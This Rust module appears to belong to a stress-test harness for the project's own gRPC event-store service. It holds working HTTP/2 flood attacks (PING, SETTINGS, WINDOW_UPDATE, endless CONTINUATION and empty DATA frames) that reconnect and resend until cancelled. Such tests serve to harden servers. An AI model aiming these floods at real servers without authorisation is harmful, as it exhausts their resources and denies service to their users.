//! Attacks by frames that cost a client nothing. What the server answers is read and dropped, and a
//! connection that it ends is opened anew.

use std::io;

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
};

use super::Target;
use crate::frames::{
    CONTINUATION, DATA, HEADERS, PING, PREFACE, SETTINGS, WINDOW_UPDATE, fields, frame, opened,
};

/// Frames that are sent at once.
const FRAMES: usize = 1_000;
/// A call that takes messages without end.
const CALL: &str = "/handover.v1.EventStoreService/AppendStream";

/// Asks for answers to nothing.
pub(super) async fn pings(target: Target) -> usize {
    flood(target, &[], &frame(PING, 0, 0, &[7; 8])).await
}

/// Changes no setting, which is acknowledged each time.
pub(super) async fn settings(target: Target) -> usize {
    flood(target, &[], &frame(SETTINGS, 0, 0, &[])).await
}

/// Permits the server to send one byte more.
pub(super) async fn window_updates(target: Target) -> usize {
    flood(target, &[], &frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])).await
}

/// Opens a call whose headers do not end.
pub(super) async fn continuations(target: Target) -> usize {
    let begun = frame(HEADERS, 0, 1, &fields(CALL));
    flood(target, &begun, &frame(CONTINUATION, 0, 1, &[])).await
}

/// Sends nothing to a call, again and again.
pub(super) async fn empty_data(target: Target) -> usize {
    flood(target, &opened(1, CALL), &frame(DATA, 0, 1, &[])).await
}

/// Sends the frame without end, on a connection that begins so; how often it was taken.
async fn flood(target: Target, begins: &[u8], repeated: &[u8]) -> usize {
    let begins = [PREFACE, &frame(SETTINGS, 0, 0, &[]), begins].concat();
    let sent = repeated.repeat(FRAMES);
    let mut count = 0;
    let attacked = async {
        loop {
            // It ends when the server ends the connection, or does not accept it.
            let _ = connection(&target, &begins, &sent, &mut count).await;
        }
    };
    target.until.run_until_cancelled(attacked).await;
    count
}

async fn connection(
    target: &Target,
    begins: &[u8],
    sent: &[u8],
    count: &mut usize,
) -> io::Result<()> {
    let address = target.address.strip_prefix("http://").expect("an address");
    let (mut answers, mut requests) = TcpStream::connect(address).await?.into_split();
    let dropping = async {
        let mut buffer = vec![0; 64 << 10];
        while answers.read(&mut buffer).await? > 0 {}
        Ok(())
    };
    let sending = async {
        requests.write_all(begins).await?;
        loop {
            requests.write_all(sent).await?;
            *count += FRAMES;
        }
    };
    tokio::select! {
        ended = dropping => ended,
        ended = sending => ended,
    }
}
